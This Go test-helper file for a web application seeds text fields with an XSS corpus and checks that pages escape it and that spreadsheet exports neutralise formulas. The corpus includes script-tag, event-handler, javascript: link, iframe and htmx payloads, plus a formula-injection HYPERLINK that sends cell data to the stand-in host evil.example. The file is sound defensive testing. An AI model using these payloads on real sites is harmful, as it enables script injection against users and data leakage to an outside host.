package webtest

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
)

// XSSCorpus is what an attacker types into a text field: markup that runs
// script if a page forgets to escape it, template syntax, links with a
// javascript: scheme, htmx attributes, and spreadsheet formulas (formula
// injection: they must reach an exported workbook as text). Each payload
// runs alert() with its own marker, so a hook can say which one ran.
var XSSCorpus = []string{
	`<script>alert("xss-script")</script>`,
	`"><img src=x onerror=alert("xss-img")>`,
	`'><svg onload=alert("xss-svg")>`,
	`</textarea><script>alert("xss-textarea")</script>`,
	`</title></style><script>alert("xss-title")</script>`,
	`{{.}} {{template "layout" .}} ${alert("xss-tpl")}`,
	`<a href="javascript:alert('xss-link')">Bấm vào đây</a>`,
	`<iframe srcdoc="<script>alert('xss-iframe')</script>"></iframe>`,
	`<div hx-get="/logout" hx-trigger="load" onmouseover="alert('xss-htmx')">xss-htmx</div>`,
	`=HYPERLINK("http://evil.example/?x="&A1,"Bấm xem")`,
	`=1+1`,
	`+1+1`,
	`-1+1`,
	`@SUM(1,1)`,
}

// FormulaPayloads are the corpus entries a spreadsheet would read as a
// formula if they were written as one.
func FormulaPayloads() []string {
	var out []string
	for _, p := range XSSCorpus {
		if strings.ContainsAny(p[:1], "=+-@") {
			out = append(out, p)
		}
	}
	return out
}

// Payload returns the i-th payload (cycling), so each field of the
// seeding gets a different one and every payload is used.
func Payload(i int) string { return XSSCorpus[i%len(XSSCorpus)] }

// caller is a minimal JSON API client for seeding.
type caller struct {
	t     testing.TB
	base  string
	token string
}

// apiAs signs username in through POST /api/v1/auth/tokens.
func (e *Env) apiAs(t testing.TB, username string) *caller {
	t.Helper()
	c := &caller{t: t, base: e.URL}
	var tok struct {
		Token string `json:"token"`
	}
	c.call("POST", "/api/v1/auth/tokens", map[string]string{"username": username, "password": Password}, http.StatusCreated, &tok)
	c.token = tok.Token
	return c
}

// call sends body as JSON, checks the status and decodes the answer into out.
func (c *caller) call(method, path string, body any, want int, out any) []byte {
	c.t.Helper()
	var rd io.Reader
	if body != nil {
		j, err := json.Marshal(body)
		if err != nil {
			c.t.Fatal(err)
		}
		rd = bytes.NewReader(j)
	}
	req, err := http.NewRequest(method, c.base+path, rd)
	if err != nil {
		c.t.Fatal(err)
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	if c.token != "" {
		req.Header.Set("Authorization", "Bearer "+c.token)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		c.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer res.Body.Close()
	data, _ := io.ReadAll(res.Body)
	if res.StatusCode != want {
		c.t.Fatalf("seeding %s %s: status %d, want %d: %.500s", method, path, res.StatusCode, want, data)
	}
	if out != nil {
		if err := json.Unmarshal(data, out); err != nil {
			c.t.Fatalf("seeding %s %s: decode %.300s: %v", method, path, data, err)
		}
	}
	return data
}

// XSSSeed is what SeedXSS stored: the pages that show the payloads, by the
// user who sees them, and the documents exported from them.
type XSSSeed struct {
	Pages   map[string][]string // username → page paths
	Exports []XSSExport
	// Refused lists the javascript: and data: addresses the URL fields
	// refused with 422 (each must be refused).
	Refused []string
}

// XSSExport is a document to download as User.
type XSSExport struct {
	User, Path, Kind string // Kind: xlsx, docx or pdf
}

// id is the shape of every created resource: its id and version.
type idVersion struct {
	ID      int64 `json:"id"`
	Version int   `json:"version"`
}

func (e *Env) unitID(t testing.TB, code string) int64 { return e.Unit(t, code).ID }

func jsonOf(v any) string { b, _ := json.Marshal(v); return string(b) }

func pathf(format string, a ...any) string { return fmt.Sprintf(format, a...) }
